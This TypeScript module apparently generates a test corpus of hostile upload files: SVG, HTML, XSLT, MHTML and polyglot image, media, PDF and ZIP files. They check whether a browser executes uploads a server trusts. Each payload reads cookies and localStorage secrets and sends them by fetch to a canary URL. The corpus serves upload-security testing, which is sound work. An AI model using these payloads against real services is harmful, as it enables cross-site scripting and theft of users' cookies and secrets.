import { crc32, deflateRawSync } from 'node:zlib';

/** A file that does harm where a browser takes it for what it also is. */
export interface HostileFile {
  /** Names it, also to the canary. */
  what: string;
  /** As its uploader calls it. */
  name: string;
  /** As its uploader declares it. */
  type: string;
  bytes: Buffer;
  /** Whether Chromium lets it loose where a server believes the uploader. */
  bites: boolean;
}

/**
 * A corpus of them. Whatever runs, or is loaded by what is shown as a page, asks the canary for `/heard/` and what it was, with
 * all that it could read of the page's origin; and it leaves a mark there, `owned`, in all places that it can write to.
 */
export function hostileFiles(canary: string): HostileFile[] {
  const of = (what: string) => ({ script: scriptOf(canary, what), heard: `${canary}/heard/${what}` });
  return [...pictures(of), ...pages(of), ...scripts(of), ...polyglots(of), ...containers(of)];
}

/** What one of them says to the canary. */
type Voice = (what: string) => { script: string; heard: string };

type Row = [name: string, type: string, bytes: Buffer | string, isHarmless?: 'harmless'];

function rows(table: Record<string, Row>): HostileFile[] {
  return Object.entries(table).map(([what, [name, type, bytes, harmless]]) => {
    return { what, name, type, bytes: Buffer.from(bytes as Buffer), bites: harmless === undefined };
  });
}

/** One line that also fits into an attribute and into XML. */
function scriptOf(canary: string, what: string): string {
  const attempts = [
    `s=localStorage.secret`,
    `s+=document.cookie`,
    `localStorage.owned=w`,
    `document.cookie='owned=1'`,
    `fetch('${canary}/heard/'+w+'?'+encodeURIComponent(s),{mode:'no-cors',keepalive:true})`,
    `top.owned=w`,
    `alert(w)`,
  ];
  return `{let w='${what}',s='';${attempts.map((attempt) => `try{${attempt}}catch(e){}`).join('')}}`;
}

const svg = (inside: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" ${attributes}>${inside}</svg>`;
const html = (script: string) => `<!doctype html><html><body><script>${script}</script></body></html>`;
const xhtml = 'http://www.w3.org/1999/xhtml';

function pictures(of: Voice): HostileFile[] {
  const type = 'image/svg+xml';
  const script = (what: string) => `<script>${of(what).script}</script>`;
  const foreign = `<foreignObject width="9" height="9"><body xmlns="${xhtml}"><img src="x:" onerror="${of('svg-foreign').script}"/></body></foreignObject>`;
  const loads = of('svg-loads').heard;
  return rows({
    'svg-script': ['a.svg', type, svg(script('svg-script'))],
    'svg-onload': ['a.svg', type, svg('', `onload="${of('svg-onload').script}"`)],
    'svg-foreign': ['a.svg', type, svg(foreign)],
    'svg-loads': [
      'a.svg',
      type,
      svg(`<image href="${loads}"/><use href="${loads}#a"/><style>@import "${loads}";</style>`),
    ],
    'svg-entity': [
      'a.svg',
      type,
      `<!DOCTYPE svg [<!ENTITY e "<script xmlns='http://www.w3.org/2000/svg'>${of('svg-entity').script.replaceAll("'", '&#39;')}</script>">]>${svg('&e;')}`,
    ],
    'svg-late': ['a.svg', type, svg(`<!--${' '.repeat(40_000)}-->${script('svg-late')}`)],
    'svg-as-png': ['a.png', 'image/png', svg(script('svg-as-png')), 'harmless'],
  });
}

function pages(of: Voice): HostileFile[] {
  const page = (what: string) => html(of(what).script);
  const inXhtml = (what: string) => `<html xmlns="${xhtml}"><body><script>${of(what).script}</script></body></html>`;
  const utf7 = page('html-utf7').replace(/[<>]/g, (sign) => (sign === '<' ? '+ADw-' : '+AD4-'));
  const xslt = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="?self"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">${inXhtml('xslt')}</xsl:template></xsl:stylesheet>`;
  return rows({
    html: ['page.html', 'text/html', page('html')],
    'html-as-png': ['cat.png', 'image/png', page('html-as-png'), 'harmless'],
    'html-without-type': ['page', '', page('html-without-type')],
    'html-loads': [
      'page.html',
      'text/html',
      `<link rel=stylesheet href="${of('html-loads').heard}"><img src="${of('html-loads').heard}">`,
    ],
    'html-bom': ['page.html', 'text/html', `\ufeff${page('html-bom')}`],
    'html-utf16': ['page.html', 'text/html', Buffer.from(`\ufeff${page('html-utf16')}`, 'utf16le')],
    'html-utf7': ['page.html', 'text/html; charset=utf-7', utf7, 'harmless'],
    'html-late': ['page.html', 'text/html', ' '.repeat(40_000) + page('html-late')],
    'html-nul': ['page.html', 'text/html', `\0${page('html-nul')}`],
    xhtml: ['page.xhtml', 'application/xhtml+xml', `<?xml version="1.0"?>${inXhtml('xhtml')}`],
    xml: ['page.xml', 'application/xml', `<a xmlns:h="${xhtml}"><h:script>${of('xml').script}</h:script></a>`],
    xslt: ['page.xml', 'text/xml', xslt, 'harmless'],
    mhtml: [
      'page.mhtml',
      'multipart/related',
      `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b; type="text/html"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: http://a/\r\n\r\n${page('mhtml')}\r\n--b--\r\n`,
      'harmless',
    ],
    hta: ['page.hta', 'application/hta', page('hta'), 'harmless'],
  });
}

function scripts(of: Voice): HostileFile[] {
  const wasm = Buffer.from([0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00]);
  return rows({
    js: ['code.js', 'text/javascript', of('js').script],
    'js-module': ['code.mjs', 'text/javascript', `import '${of('js-module').heard}';${of('js-module').script}`],
    'js-as-json': ['data.json', 'application/json', of('js-as-json').script],
    'js-as-csv': ['data.csv', 'text/csv', of('js-as-csv').script, 'harmless'],
    css: ['style.css', 'text/css', `@import "${of('css').heard}";*{background:url(${of('css').heard})}`],
    playlist: [
      'film.mp4',
      'application/vnd.apple.mpegurl',
      `#EXTM3U\n#EXTINF:9,\n${of('playlist').heard}\n`,
      'harmless',
    ],
    wasm: ['code.wasm', 'application/wasm', wasm, 'harmless'],
  });
}

function polyglots(of: Voice): HostileFile[] {
  const page = (what: string) => Buffer.from(html(of(what).script));
  const mp4 = (what: string) => box('ftyp', Buffer.concat([Buffer.from('isom\0\0\x02\0isomiso2'), page(what)]));
  const gif = (what: string) => Buffer.from(`GIF89a/*\0\0${'\0'.repeat(20)}*/=1;${of(what).script}`, 'latin1');
  const wave = (what: string) => Buffer.from(`RIFF/*\0\0WAVEfmt ${'\0'.repeat(20)}*/=1;${of(what).script}`, 'latin1');
  return rows({
    'gif-js': ['a.gif', 'text/javascript', gif('gif-js')],
    'gif-html': ['a.gif', 'text/html', Buffer.concat([onePixelGif, page('gif-html')])],
    'wave-js': ['a.wav', 'text/javascript', wave('wave-js')],
    'png-html': ['a.png', 'text/html', Buffer.concat([onePixelPng, page('png-html')])],
    'jpeg-html': ['a.jpg', 'text/html', jpegWith(page('jpeg-html'))],
    'mp3-html': ['a.mp3', 'text/html', Buffer.concat([Buffer.from('ID3\x03\0\0\0\0\0\0', 'latin1'), page('mp3-html')])],
    'mp4-html': ['a.mp4', 'text/html', mp4('mp4-html')],
    'mp4-is-html': ['a.mp4', 'video/mp4', page('mp4-is-html'), 'harmless'],
    'ico-html': ['a.ico', 'text/html', Buffer.concat([icon(), page('ico-html')])],
    'pdf-html': ['a.pdf', 'text/html', Buffer.concat([Buffer.from('%PDF-1.7\n'), page('pdf-html')])],
  });
}

function containers(of: Voice): HostileFile[] {
  const act = `<</S/JavaScript/JS(app.launchURL\\("${of('pdf-js').heard}"\\))>>`;
  const open = `<</S/URI/URI(${of('pdf-uri').heard})>>`;
  const manifest = zip('META-INF/MANIFEST.MF', 'Manifest-Version: 1.0\r\nMain-Class: A\r\n');
  const addOn = zip('META-INF/mozilla.rsa', 'x');
  return rows({
    'pdf-js': ['a.pdf', 'application/pdf', pdf(act), 'harmless'],
    'pdf-uri': ['a.pdf', 'application/pdf', pdf(open), 'harmless'],
    jar: ['a.jar', 'application/java-archive', manifest, 'harmless'],
    'zip-html': ['a.zip', 'text/html', Buffer.concat([manifest, Buffer.from(html(of('zip-html').script))])],
    'add-on': ['a.xpi', 'application/x-xpinstall', addOn, 'harmless'],
    icon: ['favicon.ico', 'image/x-icon', icon(), 'harmless'],
  });
}

const onePixelGif = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
const onePixelPng = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

/** Of one grey pixel, with a comment. */
function jpegWith(comment: Buffer): Buffer {
  const table = (kind: number) => segment(0xc4, Buffer.from([kind, 1, ...Array.from({ length: 15 }, () => 0), 0]));
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    segment(0xfe, comment),
    segment(0xdb, Buffer.alloc(65, 1).fill(0, 0, 1)),
    segment(0xc0, Buffer.from([8, 0, 1, 0, 1, 1, 1, 0x11, 0])),
    table(0x00),
    table(0x10),
    segment(0xda, Buffer.from([1, 1, 0, 0, 63, 0])),
    Buffer.from([0x3f, 0xff, 0xd9]),
  ]);
}

function segment(mark: number, content: Buffer): Buffer {
  const head = Buffer.from([0xff, mark, 0, 0]);
  head.writeUInt16BE(content.length + 2, 2);
  return Buffer.concat([head, content]);
}

function icon(): Buffer {
  const head = Buffer.from([0, 0, 1, 0, 1, 0, 1, 1, 0, 0, 1, 0, 32, 0, 0, 0, 0, 0, 22, 0, 0, 0]);
  head.writeUInt32LE(onePixelPng.length, 14);
  return Buffer.concat([head, onePixelPng]);
}

function box(name: string, content: Buffer): Buffer {
  const head = Buffer.from(`\0\0\0\0${name}`, 'latin1');
  head.writeUInt32BE(content.length + 8);
  return Buffer.concat([head, content]);
}

function pdf(action: string): string {
  return `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction${action}>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`;
}

/** An archive of one file, without the list at its end. */
function zip(name: string, content: string): Buffer {
  const packed = deflateRawSync(content);
  const head = Buffer.from(`PK\x03\x04\x14\0\0\0\x08\0${'\0'.repeat(20)}${name}`, 'latin1');
  head.writeUInt32LE(crc32(content), 14);
  head.writeUInt32LE(packed.length, 18);
  head.writeUInt32LE(content.length, 22);
  head.writeUInt16LE(name.length, 26);
  return Buffer.concat([head, packed]);
}
